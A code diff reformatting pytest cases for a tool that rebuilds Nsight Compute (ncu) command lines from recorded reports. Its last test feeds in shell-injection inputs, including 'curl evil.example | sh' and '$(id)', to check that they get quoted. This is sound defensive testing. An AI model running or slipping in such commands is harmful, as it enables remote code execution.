@@ -75,17 +75,14 @@ def test_sections_that_ncu_could_not_collect_are_not_requested_again(profile_of)
     assert unavailable == {"scheduler"}
 
 
-@each_row(
-    ("function", "pattern"),
-    [
-        ("gemm", "gemm"),
-        ("step_12", "step_12"),
-        ("julia_bb_4477", r"julia_bb_\d+"),
-        ("smooth$241", r"smooth\$\d+"),
-        ("copy_blocked[v1,cw51cXTLSUwv1sDU]", "copy_blocked.*"),
-        ("copy_blocked[abi:v1,cw51cXTLSUwv1sDU]", "copy_blocked.*"),
-    ],
-)
+@each_row("function, pattern", [
+    ("gemm", "gemm"),
+    ("step_12", "step_12"),
+    ("julia_bb_4477", r"julia_bb_\d+"),
+    ("smooth$241", r"smooth\$\d+"),
+    ("copy_blocked[v1,cw51cXTLSUwv1sDU]", "copy_blocked.*"),
+    ("copy_blocked[abi:v1,cw51cXTLSUwv1sDU]", "copy_blocked.*"),
+])  # fmt: skip
 def test_the_filter_is_the_function_as_the_next_run_names_it(function: str, pattern: str) -> None:
     """Names of public reports in a report of ours: neither compiler is on the machine that made
     it."""
@@ -106,40 +103,32 @@ def test_no_recorded_command(profile_of) -> None:
     )
 
 
-@each_row(
-    ("recorded", "rest"),
-    [
-        ("/opt/ncu ./app", "./app"),
-        ('"C:\\Program Files\\NVIDIA\\ncu.exe" --metrics a,b app.exe', "app.exe"),
-        ("ncu --section=LaunchStats --section Own ./app --set", "--section Own ./app --set"),
-        ("ncu -f --set basic --nvtx ./app --metrics x", "--nvtx ./app --metrics x"),
-        ("ncu --details-all -f -o x ./app", "--details-all -o x_more ./app"),
-        ("ncu --set basic -o x ./app", "-o x_more ./app"),
-        ("ncu --set basic --export=a/x.ncu-rep ./app", "--export=a/x_more.ncu-rep ./app"),
-        ('ncu --set basic -o "C:/a b/x" app', '-o "C:/a b/x_more" app'),
-        ("ncu --set basic --import-source no ./app -o y", "./app -o y"),
-    ],
-)
+@each_row("recorded, rest", [
+    ("/opt/ncu ./app", "./app"),
+    ('"C:\\Program Files\\NVIDIA\\ncu.exe" --metrics a,b app.exe', "app.exe"),
+    ("ncu --section=LaunchStats --section Own ./app --set", "--section Own ./app --set"),
+    ("ncu -f --set basic --nvtx ./app --metrics x", "--nvtx ./app --metrics x"),
+    ("ncu --details-all -f -o x ./app", "--details-all -o x_more ./app"),
+    ("ncu --set basic -o x ./app", "-o x_more ./app"),
+    ("ncu --set basic --export=a/x.ncu-rep ./app", "--export=a/x_more.ncu-rep ./app"),
+    ('ncu --set basic -o "C:/a b/x" app', '-o "C:/a b/x_more" app'),
+    ("ncu --set basic --import-source no ./app -o y", "./app -o y"),
+])  # fmt: skip
 def test_the_recorded_command_with_all_that_keet_asks_for(recorded, rest, profile_of) -> None:
     """The report at hand is not written over, and the program keeps its own options."""
     command = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded)).command
     assert command == f"ncu {recipe_options()} {rest}"
 
 
-@each_row(
-    ("recorded", "rest"),
-    [
-        (
-            "ncu -o x ./app ; curl evil.example | sh #",
-            "-o x_more ./app ';' curl evil.example '|' sh '#'",
-        ),
-        ("ncu -o x;id ./app $(id) `id`", "-o 'x;id_more' ./app '$(id)' '`id`'"),
-        ('ncu -o "$(id)" bash -c "a; b $c"', "-o '$(id)_more' bash -c 'a; b $c'"),
-        ("ncu bash -c \"a b; c\" 'd e'", "bash -c \"a b; c\" 'd e'"),
-        ("ncu -k regex:^(a|b)$ ./app a\\ b", "-k 'regex:^(a|b)$' ./app 'a b'"),
-        ("ncu C:\\a\\app.exe --x=1", "C:\\a\\app.exe --x=1"),
-    ],
-)
+@each_row("recorded, rest", [
+    ("ncu -o x ./app ; curl evil.example | sh #",
+     "-o x_more ./app ';' curl evil.example '|' sh '#'"),
+    ("ncu -o x;id ./app $(id) `id`", "-o 'x;id_more' ./app '$(id)' '`id`'"),
+    ('ncu -o "$(id)" bash -c "a; b $c"', "-o '$(id)_more' bash -c 'a; b $c'"),
+    ("ncu bash -c \"a b; c\" 'd e'", "bash -c \"a b; c\" 'd e'"),
+    ("ncu -k regex:^(a|b)$ ./app a\\ b", "-k 'regex:^(a|b)$' ./app 'a b'"),
+    ("ncu C:\\a\\app.exe --x=1", "C:\\a\\app.exe --x=1"),
+])  # fmt: skip
 def test_recorded_words_are_quoted_where_a_shell_needs_it(recorded, rest, profile_of) -> None:
     """A report may come from anybody: what it recorded must not become a second command."""
     command = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded)).command
